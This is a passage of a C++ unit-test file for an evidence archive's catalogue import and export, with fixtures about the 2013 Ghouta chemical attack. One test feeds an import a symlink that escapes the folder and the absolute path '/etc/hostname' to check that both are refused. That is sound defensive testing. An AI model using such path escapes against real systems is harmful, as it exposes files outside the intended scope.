// Catalogue import and export: the CSV dialect, every kind of bad row reported
// with its row and column while nothing is written, the JSON Lines graph and
// its export round trip, the CSV export round trip, the example case file,
// and the `isnad import` / `isnad export-catalog` commands end to end.
#include "archive/import.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

#include "archive/archive.h"
#include "catalog/catalog.h"
#include "catalog/entries.h"
#include "core/canonical_json.h"
#include "core/testing/fault_env.h"
#include "core/testing/temp_dir.h"
#include "subprocess.h"

namespace isnad::archive {
namespace {

using catalog::EntityKind;
using core::Json;
using core::testing::TempDir;
using core::testing::WriteTestFile;
namespace fs = std::filesystem;

const std::string kData = ISNAD_IMPORT_DATA;
const std::string kExamples = ISNAD_EXAMPLES_DIR;

Options TestOptions() {
  Options o;
  o.operator_name = "tester@test";
  return o;
}

std::unique_ptr<Archive> NewArchive(const std::string& dir) {
  auto a = Archive::Init(dir, "test.isnad.example/import", TestOptions());
  EXPECT_TRUE(a.ok()) << a.status().ToString();
  return a.ok() ? std::move(*a) : nullptr;
}

// Adds `paths` (one Add call, in this order); returns their item ids.
std::vector<std::string> AddFiles(Archive& a, const std::vector<std::string>& paths,
                                  const std::string& url = "") {
  AddRequest req;
  req.paths = paths;
  req.url = url;
  std::vector<std::string> ids;
  AddCallbacks cb;
  cb.on_added = [&ids](const AddedFile& f) { ids.push_back(f.id); };
  auto s = a.Add(req, cb);
  EXPECT_TRUE(s.ok()) << s.status().ToString();
  EXPECT_EQ(ids.size(), paths.size());
  return ids;
}

std::string Shown(const std::vector<ImportProblem>& problems) {
  std::string out;
  for (const auto& p : problems) {
    out += std::to_string(p.row) + ": [" + p.column + "] " + p.what + "\n";
  }
  return out;
}

ImportReport MustImport(Archive& a, const std::string& file) {
  auto r = Import(a, file, ImportOptions{});
  EXPECT_TRUE(r.ok()) << r.status().ToString();
  if (!r.ok()) return {};
  EXPECT_TRUE(r->problems.empty()) << file << ":\n" << Shown(r->problems);
  return *r;
}

// Imports `file` a second time: nothing is recorded, and `unchanged` of its lines or
// rows' statements are found already said.
void ExpectNothingNewAgain(Archive& a, const std::string& file, uint64_t unchanged) {
  const uint64_t size = a.log().size();
  ImportReport again = MustImport(a, file);
  EXPECT_EQ(again.entries, 0u) << file;
  EXPECT_EQ(again.unchanged, unchanged) << file;
  EXPECT_EQ(again.items_described, 0u) << file;
  EXPECT_EQ(again.sources_added, 0u) << file << ": files from the same paths";
  // Every file is counted somewhere: here, as held from the same path already.
  EXPECT_EQ(again.files_unchanged, again.files) << file;
  EXPECT_EQ(a.log().size(), size) << file << " again recorded something";
}

std::string Export(const Archive& a, std::string_view format) {
  std::ostringstream out;
  core::Status s = ExportCatalog(a, format, out);
  EXPECT_TRUE(s.ok()) << s.ToString();
  return out.str();
}

std::vector<Json> Lines(const std::string& jsonl) {
  std::vector<Json> out;
  std::istringstream in(jsonl);
  std::string line;
  while (std::getline(in, line)) {
    if (!line.empty()) out.push_back(Json::parse(line));
  }
  return out;
}

// True when some problem is on `row`, in `column`, and says `what`.
bool Has(const std::vector<ImportProblem>& problems, uint64_t row, const std::string& column,
         const std::string& what) {
  for (const auto& p : problems) {
    if (p.row == row && p.column == column && p.what.find(what) != std::string::npos) return true;
  }
  return false;
}

size_t CountFiles(const std::string& dir) {
  size_t n = 0;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec); !ec && it != fs::end(it);
       it.increment(ec)) {
    if (it->is_regular_file()) ++n;
  }
  return n;
}

std::string EntityByName(const Archive& a, EntityKind kind, const std::string& name) {
  auto id = a.catalog().ResolveRef(kind, name);
  EXPECT_TRUE(id.ok()) << name << ": " << id.status().ToString();
  return id.ok() ? *id : "";
}

// ---------------------------------------------------------------- the CSV dialect

TEST(Csv, QuotesLineBreaksBomCrlfAndBlankRecords) {
  std::vector<ImportProblem> problems;
  auto records = ParseCsv(
      "\xEF\xBB\xBF"
      "a,b,c\r\n"
      "\"x, y\",\"say \"\"hi\"\"\",\"two\r\nlines\"\r\n"
      "\r\n"
      ",,\n"
      "last,,\"\"",
      &problems);
  EXPECT_TRUE(problems.empty()) << Shown(problems);
  ASSERT_EQ(records.size(), 4u);
  EXPECT_EQ(records[0].fields, (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_EQ(records[1].row, 2u);
  EXPECT_EQ(records[1].fields, (std::vector<std::string>{"x, y", "say \"hi\"", "two\r\nlines"}));
  EXPECT_EQ(records[2].row, 4u) << "the blank record 3 is dropped but counted";
  EXPECT_EQ(records[2].fields, (std::vector<std::string>{"", "", ""}));
  EXPECT_EQ(records[3].row, 5u);
  EXPECT_EQ(records[3].fields, (std::vector<std::string>{"last", "", ""}));
}

TEST(Csv, StrictAboutQuotesLineEndsAndUtf8) {
  std::vector<ImportProblem> problems;
  auto records = ParseCsv(
      "a,b\n"
      "ok,fine\n"
      "bad \"quote\",x\n"
      "\"closed\"then,x\n"
      "\xff\xfe,x\n"
      "lone\rcr,x\n"
      "\"never closed,x\n"
      "y,z\n",
      &problems);
  ASSERT_EQ(records.size(), 2u) << "only the header and the good row";
  EXPECT_TRUE(Has(problems, 3, "#1", "quote inside a field")) << Shown(problems);
  EXPECT_TRUE(Has(problems, 4, "#1", "after the closing quote")) << Shown(problems);
  EXPECT_TRUE(Has(problems, 5, "#1", "not UTF-8")) << Shown(problems);
  EXPECT_TRUE(Has(problems, 6, "#1", "carriage return")) << Shown(problems);
  EXPECT_TRUE(Has(problems, 7, "#1", "never closed")) << Shown(problems);
  EXPECT_EQ(problems.size(), 5u) << Shown(problems);
}

TEST(Csv, QuoteRoundTrips) {
  for (std::string s : {"plain", "a,b", "say \"hi\"", "two\nlines", "", "زملكا, سوريا"}) {
    std::vector<ImportProblem> problems;
    auto records = ParseCsv(CsvQuote(s) + ",end\n", &problems);
    ASSERT_TRUE(problems.empty()) << Shown(problems);
    ASSERT_EQ(records.size(), 1u);
    EXPECT_EQ(records[0].fields[0], s);
  }
  EXPECT_EQ(CsvQuote("plain"), "plain");
}

// ---------------------------------------------------------------- CSV import

// The archive that items.csv is written for: i1 (video, captured from a URL),
// i2 (other.txt), then the places and incident of places.jsonl (pl3 = Eastern Ghouta).
std::unique_ptr<Archive> ItemsCsvArchive(const std::string& dir) {
  auto a = NewArchive(dir);
  EXPECT_EQ(AddFiles(*a, {kData + "/files/video.bin"}, "https://example.org/video/7"),
            (std::vector<std::string>{"i1"}));
  EXPECT_EQ(AddFiles(*a, {kData + "/files/other.txt"}), (std::vector<std::string>{"i2"}));
  ImportReport places = MustImport(*a, kData + "/places.jsonl");
  EXPECT_EQ(places.entities, 3u);
  EXPECT_EQ(EntityByName(*a, EntityKind::kPlace, "Eastern Ghouta"), "pl3");
  return a;
}

TEST(Import, CsvWithEveryColumnAndQuotingCase) {
  TempDir tmp;
  auto a = ItemsCsvArchive(tmp.Join("ar"));
  ImportReport r = MustImport(*a, kData + "/items.csv");
  EXPECT_EQ(r.format, "csv");
  EXPECT_EQ(r.rows, 6u);
  EXPECT_EQ(r.files, 2u);
  EXPECT_EQ(r.items_added, 2u);
  EXPECT_EQ(r.items_described, 4u);
  EXPECT_EQ(r.entities, 0u);
  EXPECT_EQ(r.notes, 1u);

  auto statement = a->catalog().FindBySha256(
      *core::Hash::FromHex("9fb5129c952d947d68068fe3a7094d0d4aeee9455318e641370524fcdcaed0bf"));
  ASSERT_TRUE(statement.ok() && statement->has_value());
  const std::string sid = (*statement)->id;
  auto d = a->catalog().Details(sid);
  ASSERT_TRUE(d.ok()) << d.status().ToString();
  EXPECT_EQ(d->titles, (catalog::LangMap{{"en", "Statement, first"}, {"ar", "إفادة"}}));
  EXPECT_EQ(d->descriptions, (catalog::LangMap{{"en", "He said \"rockets\" came\nat 02:30"}}));
  EXPECT_EQ(d->event_date, "2013-08-21");
  EXPECT_EQ(d->place, EntityByName(*a, EntityKind::kPlace, "Zamalka"));
  EXPECT_EQ(d->lat, "33.5214");
  EXPECT_EQ(d->lon, "36.3553");
  std::vector<std::string> tags = d->tags;
  std::sort(tags.begin(), tags.end());
  EXPECT_EQ(tags, (std::vector<std::string>{"sarin", "witness"}));
  EXPECT_EQ(d->incidents, (std::vector<std::string>{"inc5"}));
  auto notes = a->catalog().Notes(sid);
  ASSERT_TRUE(notes.ok());
  ASSERT_EQ(notes->size(), 1u);
  EXPECT_EQ((*notes)[0].text, "first note");

  auto video = a->catalog().Details("i1");  // by url, then by id
  ASSERT_TRUE(video.ok());
  EXPECT_EQ(video->titles, (catalog::LangMap{{"en", "Video"}}));
  EXPECT_EQ(video->event_date, "2013-08~");
  EXPECT_EQ(video->place, "pl3") << "named by its variant \"East Ghouta\"";
  tags = video->tags;
  std::sort(tags.begin(), tags.end());
  EXPECT_EQ(tags, (std::vector<std::string>{"extra", "video"}));

  auto other = a->catalog().Details("i2");  // by upper-case sha256
  ASSERT_TRUE(other.ok());
  EXPECT_EQ(other->titles, (catalog::LangMap{{"fr", "Autre"}}));
  EXPECT_TRUE(other->descriptions.empty());
  EXPECT_EQ(other->event_date, "2013-08-04/2013-08-05");

  auto photo = a->catalog().FindBySha256(
      *core::Hash::FromHex("50815433f32365858794f22e442baa6c75baa4fb866c6121e412ef841a8bb184"));
  ASSERT_TRUE(photo.ok() && photo->has_value());
  auto pd = a->catalog().Details((*photo)->id);
  ASSERT_TRUE(pd.ok());
  EXPECT_EQ(pd->titles, (catalog::LangMap{{"en", "\"Quoted\" photo"}}));
  EXPECT_EQ(pd->place, "pl3");
  EXPECT_EQ(pd->lat, "-33.5");
  EXPECT_EQ(pd->lon, "-70.25");
}

TEST(Import, EveryBadRowIsReportedAndNothingIsWritten) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  const uint64_t size = a->log().size();
  const size_t blobs = CountFiles(tmp.Join("ar/objects"));
  for (bool dry_run : {true, false}) {
    auto r = Import(*a, kData + "/bad-rows.csv", ImportOptions{dry_run});
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    const auto& p = r->problems;
    EXPECT_TRUE(Has(p, 3, "path", "no such file")) << Shown(p);
    EXPECT_TRUE(Has(p, 4, "path", "outside the folder")) << Shown(p);
    EXPECT_TRUE(Has(p, 5, "event_date", "not a date")) << Shown(p);
    EXPECT_TRUE(Has(p, 6, "lat", "without lon")) << Shown(p);
    EXPECT_TRUE(Has(p, 7, "place", "no place is named \"Atlantis\"")) << Shown(p);
    EXPECT_TRUE(Has(p, 8, "incident", "no incident is named")) << Shown(p);
    EXPECT_TRUE(Has(p, 9, "", "has 2 field(s); the header has 8")) << Shown(p);
    EXPECT_TRUE(Has(p, 10, "", "does not say which item")) << Shown(p);
    EXPECT_TRUE(Has(p, 11, "path", "is a folder")) << Shown(p);
    EXPECT_TRUE(Has(p, 12, "lon", "not a longitude")) << Shown(p);
    EXPECT_EQ(p.size(), 10u) << Shown(p);
    EXPECT_EQ(r->rows, 11u);
  }
  EXPECT_EQ(a->log().size(), size) << "nothing half-imported";
  EXPECT_EQ(CountFiles(tmp.Join("ar/objects")), blobs) << "no file ingested";
  auto reopened = Archive::Open(tmp.Join("ar"), Mode::kRead, TestOptions());
  ASSERT_TRUE(reopened.ok());
  EXPECT_EQ((*reopened)->log().size(), size);
}

TEST(Import, CsvHeaderProblems) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  WriteTestFile(tmp.Join("in/f.txt"), "bytes");
  WriteTestFile(tmp.Join("in/h.csv"), "Path,Colour,TITLE,title,\nf.txt,red,A,B,\n");
  auto r = Import(*a, tmp.Join("in/h.csv"), ImportOptions{});
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(Has(r->problems, 1, "Colour", "unknown column")) << Shown(r->problems);
  EXPECT_TRUE(Has(r->problems, 1, "title", "named twice")) << Shown(r->problems);
  // The trailing empty column a spreadsheet saves is no problem while empty.
  EXPECT_EQ(r->problems.size(), 2u) << Shown(r->problems);
  EXPECT_EQ(a->log().size(), 1u);

  // A value in a column with no name is refused, naming the column.
  WriteTestFile(tmp.Join("in/unnamed.csv"), "path,title,\nf.txt,A,\nf.txt,A,oops\n,,\n");
  r = Import(*a, tmp.Join("in/unnamed.csv"), ImportOptions{/*dry_run=*/true});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->rows, 2u);  // the row of empty cells is a blank line
  ASSERT_EQ(r->problems.size(), 1u) << Shown(r->problems);
  EXPECT_TRUE(Has(r->problems, 3, "#3", "no name in the header")) << Shown(r->problems);

  // A blank line before the header: the header is still the first record.
  WriteTestFile(tmp.Join("in/blank-first.csv"), "\npath,title\nf.txt,A\nf.txt\n");
  r = Import(*a, tmp.Join("in/blank-first.csv"), ImportOptions{/*dry_run=*/true});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->rows, 2u);
  ASSERT_EQ(r->problems.size(), 1u) << Shown(r->problems);
  EXPECT_TRUE(Has(r->problems, 4, "", "has 1 field(s); the header has 2")) << Shown(r->problems);

  WriteTestFile(tmp.Join("in/empty.csv"), "");
  r = Import(*a, tmp.Join("in/empty.csv"), ImportOptions{});
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(Has(r->problems, 0, "", "empty")) << Shown(r->problems);

  auto unknown = Import(*a, tmp.Join("in/f.txt"), ImportOptions{});
  EXPECT_EQ(unknown.status().code(), core::Code::kInvalidArgument);
}

TEST(Import, SameBytesTwiceAreOneItemAndLinksOutsideAreRefused) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  WriteTestFile(tmp.Join("in/a.txt"), "same bytes");
  WriteTestFile(tmp.Join("in/sub/b.txt"), "same bytes");
  WriteTestFile(tmp.Join("secret.txt"), "not to be imported");
  fs::create_symlink(tmp.Join("secret.txt"), tmp.Join("in/link.txt"));
  fs::create_symlink("a.txt", tmp.Join("in/inside-link.txt"));
  WriteTestFile(tmp.Join("in/bad.csv"), "path\nlink.txt\n/etc/hostname\n");
  auto bad = Import(*a, tmp.Join("in/bad.csv"), ImportOptions{});
  ASSERT_TRUE(bad.ok());
  EXPECT_TRUE(Has(bad->problems, 2, "path", "outside the folder")) << Shown(bad->problems);
  EXPECT_TRUE(Has(bad->problems, 3, "path", "absolute path")) << Shown(bad->problems);

  WriteTestFile(tmp.Join("in/good.csv"),
                "path,title,language,tags\n"
                "a.txt,First name,en,one\n"
                "sub/b.txt,Second name,fr,two\n"
                "inside-link.txt,,,three\n");
  ImportReport r = MustImport(*a, tmp.Join("in/good.csv"));
  EXPECT_EQ(r.files, 2u) << "the link inside the folder is the file it points to";
  EXPECT_EQ(r.items_added, 1u);
  EXPECT_EQ(r.sources_added, 1u);
  EXPECT_EQ(r.items_described, 1u);
  auto items = a->catalog().Items();
  ASSERT_TRUE(items.ok());
  ASSERT_EQ(items->size(), 1u);
  auto d = a->catalog().Details((*items)[0].id);
  ASSERT_TRUE(d.ok());
  EXPECT_EQ(d->titles, (catalog::LangMap{{"en", "First name"}, {"fr", "Second name"}}));
  EXPECT_EQ(d->tags.size(), 3u);
}

// ---------------------------------------------------------------- JSON Lines

TEST(Import, BadGraphLinesAreEachReported) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  auto r = Import(*a, kData + "/bad-graph.jsonl", ImportOptions{});
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  const auto& p = r->problems;
  EXPECT_TRUE(Has(p, 2, "ref", "already the ref of line 1")) << Shown(p);
  EXPECT_TRUE(Has(p, 3, "within", "defined later, on line 4")) << Shown(p);
  EXPECT_TRUE(Has(p, 4, "lat", "without lon")) << Shown(p);
  EXPECT_TRUE(Has(p, 5, "places[0]", "no place is named \"Nowhere\"")) << Shown(p);
  EXPECT_TRUE(Has(p, 6, "path", "outside the folder")) << Shown(p);
  EXPECT_TRUE(Has(p, 7, "path", "no such file")) << Shown(p);
  EXPECT_TRUE(Has(p, 8, "subject", "is a place (line 1), not an actor")) << Shown(p);
  EXPECT_TRUE(Has(p, 8, "object", "not an actor")) << Shown(p);
  EXPECT_TRUE(Has(p, 8, "sources", "needs sources")) << Shown(p);
  EXPECT_TRUE(Has(p, 9, "", "not valid JSON")) << Shown(p);
  EXPECT_TRUE(Has(p, 10, "kind", "not a kind")) << Shown(p);
  EXPECT_TRUE(Has(p, 11, "type", "not an actor type")) << Shown(p);
  EXPECT_TRUE(Has(p, 11, "colour", "unknown member of actor")) << Shown(p);
  EXPECT_TRUE(Has(p, 12, "case", "neither a ref")) << Shown(p);
  EXPECT_TRUE(Has(p, 12, "date", "not a date")) << Shown(p);
  EXPECT_TRUE(Has(p, 13, "lat", "as a string")) << Shown(p);
  EXPECT_EQ(p.size(), 16u) << Shown(p);
  EXPECT_EQ(a->log().size(), 1u);
}

// JSON would keep only the last of two members of the same name: the first
// title (or place, or date) would be lost without a word. Refused, nested
// objects included, with the line and the member.
TEST(Import, AMemberGivenTwiceInOneObjectIsAProblem) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  WriteTestFile(tmp.Join("v.mp4"), "video");
  const std::string file = tmp.Join("dup.jsonl");
  WriteTestFile(
      file,
      "{\"kind\":\"place\",\"ref\":\"z\",\"names\":{\"en\":\"Zamalka\"}}\n"
      "{\"kind\":\"item\",\"path\":\"v.mp4\",\"title\":\"first\",\"title\":\"second\"}\n"
      "{\"kind\":\"place\",\"names\":{\"en\":\"A\",\"ar\":\"ب\",\"en\":\"C\"}}\n"
      "{\"kind\":\"place\",\"names\":{\"en\":\"D\"},\"variants\":[\"title\",\"title\"]}\n");
  auto r = Import(*a, file, ImportOptions{});
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  const auto& p = r->problems;
  EXPECT_TRUE(Has(p, 2, "title", "given twice")) << Shown(p);
  EXPECT_TRUE(Has(p, 3, "en", "given twice")) << Shown(p);
  EXPECT_EQ(p.size(), 2u) << Shown(p);  // equal strings in an array are not members
  EXPECT_EQ(a->log().size(), 1u);
}

// A derivation that would make an item a copy of its own copy is refused by
// the catalogue. The check must find it, with its row, before any file is
// ingested: not after, as a log entry number, with the files already in.
TEST(Import, ADerivationCycleIsAProblemBeforeAnyFileIsIngested) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  WriteTestFile(tmp.Join("held1.mp4"), "held one");
  WriteTestFile(tmp.Join("held2.mp4"), "held two");
  std::vector<std::string> held = AddFiles(*a, {tmp.Join("held1.mp4"), tmp.Join("held2.mp4")});
  ASSERT_EQ(held.size(), 2u);
  WriteTestFile(tmp.Join("d1.mp4"), "one");
  WriteTestFile(tmp.Join("d2.mp4"), "two");
  const std::string first = tmp.Join("first.jsonl");
  WriteTestFile(
      first, "{\"kind\":\"item\",\"id\":\"" + held[1] + "\",\"original\":\"" + held[0] + "\"}\n");
  MustImport(*a, first);
  const uint64_t size = a->log().size();
  const size_t files = CountFiles(tmp.Join("ar"));

  const std::string file = tmp.Join("cycle.jsonl");
  WriteTestFile(file,
                "{\"kind\":\"item\",\"ref\":\"a\",\"path\":\"d1.mp4\"}\n"
                "{\"kind\":\"item\",\"ref\":\"b\",\"path\":\"d2.mp4\",\"original\":\"a\"}\n"
                "{\"kind\":\"item\",\"id\":\"a\",\"original\":\"b\"}\n"
                "{\"kind\":\"item\",\"id\":\"" +
                    held[0] + "\",\"original\":\"" + held[1] + "\"}\n");
  for (bool dry : {true, false}) {
    auto r = Import(*a, file, ImportOptions{.dry_run = dry});
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    const auto& p = r->problems;
    EXPECT_TRUE(Has(p, 3, "original", "is itself derived from this item")) << Shown(p);
    EXPECT_TRUE(Has(p, 4, "original", "is itself derived from this item")) << Shown(p);
    EXPECT_EQ(p.size(), 2u) << Shown(p);
  }
  EXPECT_EQ(a->log().size(), size);
  EXPECT_EQ(CountFiles(tmp.Join("ar")), files);
}

TEST(Import, DryRunChecksAndCountsButWritesNothing) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  auto r = Import(*a, kData + "/graph.jsonl", ImportOptions{/*dry_run=*/true});
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_TRUE(r->problems.empty()) << Shown(r->problems);
  EXPECT_EQ(r->format, "jsonl");
  EXPECT_EQ(r->rows, 14u);
  EXPECT_EQ(r->files, 2u);
  EXPECT_EQ(r->entities, 9u);  // 2 places, 1 incident, 2 actors, 2 relations, 1 case, 1 event
  EXPECT_EQ(r->notes, 1u);
  EXPECT_EQ(a->log().size(), 1u);
  EXPECT_EQ(CountFiles(tmp.Join("ar/objects")), 0u);
}

TEST(Import, JsonlGraphIsRecordedInOneBatch) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("ar"));
  ImportReport r = MustImport(*a, kData + "/graph.jsonl");
  // Entries: i1, i2 ingested; then the batch from leaf 3.
  EXPECT_EQ(r.items_added, 2u);
  EXPECT_EQ(r.first_leaf, 3u);
  EXPECT_EQ(a->log().size(), r.first_leaf + r.entries);
  const std::string ghouta = EntityByName(*a, EntityKind::kPlace, "Eastern Ghouta");
  const std::string zamalka = EntityByName(*a, EntityKind::kPlace, "Zamalka");
  auto z = a->catalog().Entity(zamalka);
  ASSERT_TRUE(z.ok());
  EXPECT_EQ(z->within, ghouta);
  const std::string aug21 =
      EntityByName(*a, EntityKind::kIncident, "Chemical attack on Eastern Ghouta");
  auto inc = a->catalog().Entity(aug21);
  ASSERT_TRUE(inc.ok());
  std::vector<std::string> places = inc->places;
  std::sort(places.begin(), places.end());
  EXPECT_EQ(places, (std::vector<std::string>{ghouta, zamalka}));
  EXPECT_EQ(inc->category, "chemical attack");
  EXPECT_EQ(inc->items.size(), 2u) << "statement by the incident line, photo by the link line";

  auto photo = a->catalog().Details("i2");
  ASSERT_TRUE(photo.ok());
  EXPECT_EQ(photo->titles, (catalog::LangMap{{"ar", "صورة"}}));
  EXPECT_EQ(photo->place, zamalka);
  EXPECT_EQ(photo->original, "i1");
  EXPECT_EQ(photo->status, "verified");
  EXPECT_EQ(photo->tags, (std::vector<std::string>{"photo"}));
  auto notes = a->catalog().Notes("i2");
  ASSERT_TRUE(notes.ok());
  ASSERT_EQ(notes->size(), 1u);
  EXPECT_EQ((*notes)[0].text, "taken by witness 3");
  auto sources = a->catalog().Sources("i1");
  ASSERT_TRUE(sources.ok());
  EXPECT_EQ((*sources)[0].url, "https://example.org/post/1");

  const std::string unit = EntityByName(*a, EntityKind::kActor, "155th Missile Brigade");
  auto relations = a->catalog().Relations(unit);
  ASSERT_TRUE(relations.ok());
  ASSERT_EQ(relations->size(), 2u);
  auto cases = a->catalog().Entities(EntityKind::kCase);
  ASSERT_TRUE(cases.ok());
  ASSERT_EQ(cases->size(), 1u);
  EXPECT_EQ((*cases)[0].jurisdiction, "France");
  auto events = a->catalog().Entities(EntityKind::kCaseEvent);
  ASSERT_TRUE(events.ok());
  ASSERT_EQ(events->size(), 1u);
  EXPECT_EQ((*events)[0].category, "cassation_request");

  // Importing it again (line 3 is blank; row numbers are line numbers): its names now also name
  // what the first import created, so they no longer name exactly one; nothing is written.
  const uint64_t size = a->log().size();
  auto again = Import(*a, kData + "/graph.jsonl", ImportOptions{});
  ASSERT_TRUE(again.ok());
  EXPECT_TRUE(Has(again->problems, 6, "places[1]", "names more than one place"))
      << Shown(again->problems);
  EXPECT_EQ(a->log().size(), size);
}

// How many renames `work` takes on a fresh archive ("twin" in `tmp`): where
// to inject a failure into the same work on another.
int64_t RenamesTaken(TempDir& tmp, const std::function<void(Archive&)>& work) {
  core::testing::FaultInjectionEnv counting(core::Env::Default());
  NewArchive(tmp.Join("twin"));
  Options o = TestOptions();
  o.env = &counting;
  auto twin = Archive::Open(tmp.Join("twin"), Mode::kWrite, o);
  EXPECT_TRUE(twin.ok()) << twin.status().ToString();
  if (twin.ok()) work(**twin);
  return counting.renames.load();
}

TEST(Import, WhenRecordingFailsAfterTheFilesTheErrorSaysSoAndARerunCompletes) {
  TempDir tmp;
  const std::vector<std::string> files = {kData + "/files/statement.txt",
                                          kData + "/files/photo.bin"};
  // How many renames adding these files takes, measured on a twin archive.
  const int64_t renames = RenamesTaken(tmp, [&](Archive& twin) {
    AddFiles(twin, {files[0]}, "https://example.org/post/1");
    AddFiles(twin, {files[1]});
  });
  NewArchive(tmp.Join("ar"));
  core::testing::FaultInjectionEnv faulty(core::Env::Default());
  faulty.fail_rename_at = renames + 1;
  faulty.sticky = true;
  {
    Options o = TestOptions();
    o.env = &faulty;
    auto a = Archive::Open(tmp.Join("ar"), Mode::kWrite, o);
    ASSERT_TRUE(a.ok());
    auto r = Import(**a, kData + "/graph.jsonl", ImportOptions{});
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.status().message().find("2 file(s) were ingested and are preserved"),
              std::string::npos)
        << r.status().ToString();
    EXPECT_NE(r.status().message().find("re-run the import"), std::string::npos);
  }
  auto a = Archive::Open(tmp.Join("ar"), Mode::kWrite, TestOptions());
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  EXPECT_EQ((*a)->log().size(), 3u) << "the two files, nothing of the graph";
  auto places = (*a)->catalog().Entities(EntityKind::kPlace);
  ASSERT_TRUE(places.ok());
  EXPECT_TRUE(places->empty());
  ImportReport again = MustImport(**a, kData + "/graph.jsonl");
  EXPECT_EQ(again.items_added, 0u);
  EXPECT_EQ(again.sources_added, 0u) << "the files are recorded from these paths already";
  EXPECT_EQ(again.entities, 9u);
}

// The graph committed and signed, then the history file failed: the import is
// done, and the message must not say "none was recorded" (a re-run would add
// every entity a second time).
TEST(Import, AFailureAfterTheGraphIsCommittedSaysItWasRecorded) {
  TempDir tmp;
  const int64_t renames =
      RenamesTaken(tmp, [](Archive& twin) { MustImport(twin, kData + "/graph.jsonl"); });
  NewArchive(tmp.Join("ar"));
  core::testing::FaultInjectionEnv faulty(core::Env::Default());
  faulty.fail_rename_at = renames;  // the last: the checkpoint's history file
  uint64_t size_before = 0;
  {
    Options o = TestOptions();
    o.env = &faulty;
    auto a = Archive::Open(tmp.Join("ar"), Mode::kWrite, o);
    ASSERT_TRUE(a.ok());
    size_before = (*a)->log().size();
    auto r = Import(**a, kData + "/graph.jsonl", ImportOptions{});
    ASSERT_FALSE(r.ok());
    const std::string m = r.status().message();
    EXPECT_NE(m.find("graph entries were recorded"), std::string::npos) << m;
    EXPECT_NE(m.find("do not import the file again"), std::string::npos) << m;
    EXPECT_EQ(m.find("none was recorded"), std::string::npos) << m;
  }
  // Opened for writing again, the history file is saved and the archive is whole.
  ASSERT_TRUE(Archive::Open(tmp.Join("ar"), Mode::kWrite, TestOptions()).ok());
  auto a = Archive::Open(tmp.Join("ar"), Mode::kRead, TestOptions());
  ASSERT_TRUE(a.ok());
  EXPECT_GT((*a)->log().size(), size_before);
  auto report = (*a)->Verify("", 2, nullptr);
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  for (const auto& p : report->problems) ADD_FAILURE() << p.file << ": " << p.what;
}

TEST(Import, JsonlExportImportsIntoAFreshArchiveAndExportsTheSameBytes) {
  TempDir tmp;
  auto a = NewArchive(tmp.Join("a"));
  MustImport(*a, kData + "/graph.jsonl");
  const std::string e1 = Export(*a, "jsonl");
  std::vector<Json> lines = Lines(e1);
  ASSERT_FALSE(lines.empty());
  // Items first, by content; every entity with its archive id as ref.
  EXPECT_EQ(lines[0],
            Json::parse(R"({"kind":"item","ref":"i1","sha256":)"
                        R"("9fb5129c952d947d68068fe3a7094d0d4aeee9455318e641370524fcdcaed0bf"})"));
  EXPECT_EQ(lines[1]["ref"].get<std::string>(), "i2");
  EXPECT_NE(e1.find(R"({"kind":"incident","ref":"inc)"), std::string::npos) << e1;
  EXPECT_NE(e1.find(R"("items":["i1"])"), std::string::npos)
      << "incident.linked joined its incident";
  EXPECT_NE(e1.find(R"("exhibits":["i1","i2"])"), std::string::npos) << e1;
  EXPECT_NE(e1.find(R"({"kind":"link","incident":"inc)"), std::string::npos) << e1;
  EXPECT_NE(e1.find(R"("remove_tags":["draft"])"), std::string::npos) << e1;
  EXPECT_NE(e1.find(R"("note":"taken by witness 3")"), std::string::npos) << e1;
  EXPECT_NE(e1.find(R"("type":"cassation_request")"), std::string::npos) << e1;

  const std::string file = tmp.Join("export/catalogue.jsonl");
  WriteTestFile(file, e1);
  // The same files added in the same order: the same ids, the same bytes.
  auto b = NewArchive(tmp.Join("b"));
  AddFiles(*b, {kData + "/files/statement.txt", kData + "/files/photo.bin"});
  ImportReport r = MustImport(*b, file);
  EXPECT_EQ(r.files, 0u);
  EXPECT_EQ(Export(*b, "jsonl"), e1);
  EXPECT_EQ(Export(*b, "csv"), Export(*a, "csv"));

  // Another order: the same graph under other ids.
  auto c = NewArchive(tmp.Join("c"));
  AddFiles(*c, {kData + "/files/photo.bin"});
  AddFiles(*c, {kData + "/files/other.txt", kData + "/files/statement.txt"});
  MustImport(*c, file);
  const std::string e3 = Export(*c, "jsonl");
  EXPECT_NE(e3, e1);
  // Replaces every id ("i3", "pl12", ...) in quotes by "ID".
  auto strip_ids = [](const std::string& s) {
    std::string out;
    for (size_t i = 0; i < s.size();) {
      if (s[i] == '"') {
        size_t end = s.find('"', i + 1);
        if (end != std::string::npos &&
            catalog::ParseEntityId(std::string_view(s).substr(i + 1, end - i - 1))) {
          out += "\"ID\"";
          i = end + 1;
          continue;
        }
      }
      out += s[i++];
    }
    return out;
  };

  std::vector<Json> l1 = Lines(e1), l3 = Lines(e3);
  ASSERT_EQ(l1.size(), l3.size());
  // Past the item list (whose order follows the ids), the lines differ only in ids.
  for (size_t k = 2; k < l1.size(); ++k) {
    EXPECT_EQ(strip_ids(l1[k].dump()), strip_ids(l3[k].dump())) << k;
  }
  auto photo = c->catalog().Details("i1");
  ASSERT_TRUE(photo.ok());
